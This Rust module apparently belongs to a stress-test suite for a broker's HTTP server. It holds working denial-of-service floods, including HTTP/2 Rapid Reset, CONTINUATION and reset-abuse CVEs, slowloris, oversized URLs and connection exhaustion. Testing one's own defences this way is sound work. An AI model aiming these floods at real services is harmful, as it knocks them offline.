//! HTTP/1.1 and 2: floods of requests and frames, slow requests, and requests that are too large.

use std::io;
use std::net::Ipv4Addr;
use std::rc::Rc;
use std::time::Duration;

use tokio::io::AsyncReadExt;
use tokio::net::TcpListener;
use tokio::task::spawn_local;
use tokio::time::sleep;

use crate::attacker::Attacker;
use crate::http::{
    DATA, HEADERS, HTTP1, HTTP2, HTTP3, LARGE_FILE, block2, connect, connect_http3, expect_body, frame2,
    integer7, tls,
};
use crate::stream::{LOCAL, RawClient, read_to_end};
use crate::target::HOST;

/// Connections with a flood.
const FLOOD: usize = 8;
/// Connections with requests: of HTTP/1.1, one at a time on each.
const REQUESTERS: usize = 64;
/// Slow connections, below the default of `http.limits.connections_per_address`.
const SLOW: usize = 240;
/// Connections at a time from each of the addresses 127.0.0.x of [`SOURCES`]: together more than
/// `http.limits.connections`, and from each more than `.connections_per_address`.
const CONNECTIONS: usize = 300;
const SOURCES: [u8; 6] = [2, 3, 4, 5, 6, 7];
/// Bytes of a URL or a field.
const LARGE: usize = 1_000_000;
/// Connections that take nothing of their responses.
const UNREAD: usize = 32;
/// Requests or frames of one write.
const BATCH: u32 = 64;

/// A file of some lines: the broker's certificate.
const SMALL_FILE: &str = "/files/data/cert.pem";

/// First bytes of HTTP/2, with SETTINGS.
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// Types of frames.
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// Flags of HEADERS.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Bytes that a connection sends.
#[derive(Clone, Copy)]
struct Flood {
    version: &'static str,
    /// The first bytes.
    first: fn() -> Vec<u8>,
    /// The bytes of each round after them.
    round: fn(u32) -> Vec<u8>,
    /// Units of the attack in a round.
    units: u32,
    /// Pause after a round.
    pause: Duration,
    /// True if responses are read.
    reads: bool,
}

impl Flood {
    /// A flood at full speed, with units of one round each.
    const fn new(version: &'static str, first: fn() -> Vec<u8>, round: fn(u32) -> Vec<u8>) -> Self {
        Self { version, first, round, units: 1, pause: Duration::ZERO, reads: true }
    }

    /// HTTP/2, with a batch in each round.
    const fn http2(first: fn() -> Vec<u8>, round: fn(u32) -> Vec<u8>) -> Self {
        Self { units: BATCH, ..Self::new(HTTP2, first, round) }
    }

    /// A byte a second after the first bytes, which count as the unit.
    const fn slow(version: &'static str, first: fn() -> Vec<u8>, round: fn(u32) -> Vec<u8>) -> Self {
        Self { units: 0, pause: Duration::from_secs(1), ..Self::new(version, first, round) }
    }
}

/// Runs the floods in turn on a number of connections, each of which is opened again when the broker has closed it.
async fn flood(attacker: Rc<Attacker>, connections: usize, floods: &'static [Flood]) {
    let clients = [HTTP1, HTTP2].map(|version| (version, tls(&attacker.target, version)));
    let run = move |attacker: Rc<Attacker>, at: usize| {
        let flood = floods[at % floods.len()];
        let client = clients.iter().find(|(version, _)| *version == flood.version);
        let client = client.map(|(_, tls)| tls.clone()).unwrap_or_default();
        async move {
            let stream = connect(&attacker.target, &client, LOCAL).await?;
            let mut stream = RawClient::over(stream, flood.reads);
            stream.send(&(flood.first)()).await?;
            attacker.count(u64::from(flood.units == 0));
            for number in 0.. {
                stream.send(&(flood.round)(number)).await?;
                attacker.count(flood.units.into());
                sleep(flood.pause).await;
            }
            Ok(())
        }
    };
    attacker.workers(connections, run).await;
}

/// Bytes of a batch of streams.
fn batch(number: u32, bytes: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
    let first = number.saturating_mul(BATCH);
    (first..first + BATCH).flat_map(|stream| bytes(stream.saturating_mul(2) | 1)).collect()
}

/// Requests that are reset: by the client (CVE-2023-44487), before their bodies, and by the broker, for an error of the
/// client (CVE-2025-8671).
pub(crate) async fn resets(attacker: Rc<Attacker>) {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    const FLOODS: &[Flood] = &[
        Flood::http2(preface, |number| {
            batch(number, |stream| {
                let head = frame2(HEADERS, END_HEADERS | END_STREAM, stream, &block2(true, "/"));
                [head, frame2(RST_STREAM, 0, stream, &CANCEL)].concat()
            })
        }),
        Flood::http2(preface, |number| {
            batch(number, |stream| {
                let head = frame2(HEADERS, END_HEADERS, stream, &block2(false, "/app/reset"));
                [head, frame2(RST_STREAM, 0, stream, &CANCEL)].concat()
            })
        }),
        Flood::http2(preface, |number| {
            batch(number, |stream| {
                let head = frame2(HEADERS, END_HEADERS, stream, &block2(false, "/app/reset"));
                [head, frame2(WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff])].concat()
            })
        }),
    ];
    discard_upstream(&attacker);
    flood(attacker, FLOOD, FLOODS).await;
}

/// CONTINUATION without END_HEADERS: with fields, with fields of one byte, and empty (CVE-2024-27316).
pub(crate) async fn continuations(attacker: Rc<Attacker>) {
    fn begin() -> Vec<u8> {
        [preface(), frame2(HEADERS, END_STREAM, 1, &block2(true, "/"))].concat()
    }
    const FLOODS: &[Flood] = &[
        Flood::http2(begin, |_| {
            let field = [&b"\0\x01a"[..], &integer7(1_000), &[b'b'; 1_000]].concat();
            frame2(CONTINUATION, 0, 1, &field).repeat(BATCH as usize)
        }),
        Flood::http2(begin, |_| frame2(CONTINUATION, 0, 1, &[0x90]).repeat(BATCH as usize)),
        Flood::http2(begin, |_| frame2(CONTINUATION, 0, 1, &[]).repeat(BATCH as usize)),
    ];
    flood(attacker, FLOOD, FLOODS).await;
}

/// A byte a second: of a body for the API and for an upstream, on HTTP/1.1 and 2, and of a head.
pub(crate) async fn slow(attacker: Rc<Attacker>) {
    fn head(path: &str) -> Vec<u8> {
        format!("POST {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {LARGE}\r\n\r\n").into_bytes()
    }
    const FLOODS: &[Flood] = &[
        Flood::slow(HTTP1, || head("/api/v1/publish"), |_| vec![b' ']),
        Flood::slow(HTTP1, || head("/app/slow"), |_| vec![b' ']),
        Flood::slow(HTTP1, || b"GET /".to_vec(), |_| vec![b'a']),
        Flood::slow(
            HTTP2,
            || {
                let heads = |stream| frame2(HEADERS, END_HEADERS, stream, &block2(false, "/app/slow"));
                [preface(), batch(0, heads)].concat()
            },
            |_| batch(0, |stream| frame2(DATA, 0, stream, b" ")),
        ),
    ];
    discard_upstream(&attacker);
    flood(attacker, SLOW, FLOODS).await;
}

/// Requests at full speed on HTTP/1.1, for a file, a page of the dashboard, and the API without credentials; a third of
/// the connections do not read the responses.
pub(crate) async fn requests(attacker: Rc<Attacker>) {
    fn pipelined(path: &str) -> Vec<u8> {
        format!("GET {path} HTTP/1.1\r\nHost: {HOST}\r\n\r\n").into_bytes().repeat(BATCH as usize)
    }
    const fn of(round: fn(u32) -> Vec<u8>, reads: bool) -> Flood {
        Flood { units: BATCH, reads, ..Flood::new(HTTP1, Vec::new, round) }
    }
    const FLOODS: &[Flood] = &[
        of(|_| pipelined(SMALL_FILE), true),
        of(|_| pipelined("/api/v1/clients"), true),
        of(|_| pipelined("/"), false),
    ];
    let served = expect_body(&attacker.target, SMALL_FILE).await;
    if attacker.prepared("a request", served).is_some() {
        flood(attacker, REQUESTERS, FLOODS).await;
    }
}

/// Requests for a large file on each connection of HTTP/2, whose windows have room for one byte.
pub(crate) async fn unread(attacker: Rc<Attacker>) {
    const FLOODS: &[Flood] = &[Flood::slow(
        HTTP2,
        || {
            // SETTINGS_INITIAL_WINDOW_SIZE is 1.
            let settings = frame2(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]);
            let get = |stream| frame2(HEADERS, END_HEADERS | END_STREAM, stream, &block2(true, LARGE_FILE));
            [preface(), settings, batch(0, get)].concat()
        },
        |_| frame2(PING, 0, 0, &[0; 8]),
    )];
    let served = expect_body(&attacker.target, LARGE_FILE).await;
    if attacker.prepared("a request", served).is_some() {
        flood(attacker, UNREAD, FLOODS).await;
    }
}

/// URLs and fields of 1 MB.
pub(crate) async fn urls(attacker: Rc<Attacker>) {
    const FLOODS: &[Flood] = &[
        Flood::new(HTTP1, Vec::new, |_| {
            format!("GET /{} HTTP/1.1\r\nHost: {HOST}\r\n\r\n", "a".repeat(LARGE)).into_bytes()
        }),
        Flood::new(HTTP1, Vec::new, |_| {
            format!("GET / HTTP/1.1\r\nHost: {HOST}\r\nName: {}\r\n\r\n", "a".repeat(LARGE)).into_bytes()
        }),
        Flood::new(HTTP2, preface, |number| {
            let path = [&[0x82, 0x87, 0x04], &integer7(LARGE)[..], &vec![b'/'; LARGE]].concat();
            let frames = path.chunks(1 << 14).enumerate().map(|(at, part)| {
                let kind = if at == 0 { HEADERS } else { CONTINUATION };
                let is_last = (at + 1) << 14 >= path.len();
                let flags = if is_last { END_HEADERS } else { 0 } | if at == 0 { END_STREAM } else { 0 };
                frame2(kind, flags, number.saturating_mul(2) | 1, part)
            });
            frames.flatten().collect()
        }),
    ];
    flood(attacker, REQUESTERS, FLOODS).await;
}

/// More connections than the limits allow: a third without a handshake, a third with TLS, a third over QUIC; all idle.
pub(crate) async fn connections(attacker: Rc<Attacker>) {
    let (tcp, quic) = (tls(&attacker.target, HTTP2), tls(&attacker.target, HTTP3));
    let hold = move |attacker: Rc<Attacker>, at: usize| {
        let (tcp, quic) = (tcp.clone(), quic.clone());
        async move {
            let local = Ipv4Addr::new(127, 0, 0, SOURCES[at / 3 % SOURCES.len()]);
            match at % 3 {
                0 => {
                    let socket = tokio::net::TcpSocket::new_v4()?;
                    socket.bind((local, 0).into())?;
                    let mut stream = socket.connect(attacker.target.http()).await?;
                    attacker.count(1);
                    read_to_end(&mut stream).await;
                }
                1 => {
                    let mut stream = connect(&attacker.target, &tcp, local).await?;
                    attacker.count(1);
                    let mut buffer = [0; 4096];
                    while let Ok(1..) = stream.read(&mut buffer).await {}
                }
                _ => {
                    let mut client = connect_http3(attacker.target.http(), &quic, local).await?;
                    attacker.count(1);
                    client.linger(Duration::from_secs(600)).await?;
                }
            }
            // The broker has closed it.
            Err(io::ErrorKind::ConnectionReset.into())
        }
    };
    attacker.workers(CONNECTIONS * SOURCES.len(), hold).await;
}

fn preface() -> Vec<u8> {
    PREFACE.to_vec()
}

/// Serves the front's upstream: requests are read, and not answered.
fn discard_upstream(attacker: &Attacker) {
    let address = attacker.target.upstream();
    spawn_local(async move {
        let Ok(listener) = TcpListener::bind(address).await else { return };
        while let Ok((mut stream, _)) = listener.accept().await {
            spawn_local(async move { read_to_end(&mut stream).await });
        }
    });
}
